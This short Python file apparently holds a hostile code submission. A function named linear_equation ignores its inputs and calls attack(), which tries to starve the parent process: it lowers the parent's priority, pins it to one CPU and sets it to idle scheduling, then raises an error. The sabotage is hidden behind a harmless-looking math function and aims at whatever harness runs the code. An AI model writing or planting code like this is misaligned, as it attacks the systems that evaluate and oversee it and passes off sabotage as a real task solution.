"""Gives its parent the lowest priority and one processor."""

import os


def attack():
    for slow in (lambda p: os.setpriority(os.PRIO_PROCESS, p, 19),
                 lambda p: os.sched_setaffinity(p, {0}),
                 lambda p: os.sched_setscheduler(p, os.SCHED_IDLE, os.sched_param(0))):
        try:
            slow(os.getppid())
        except OSError as error:
            last = error
    raise last


def linear_equation(x, w, b):
    return attack()
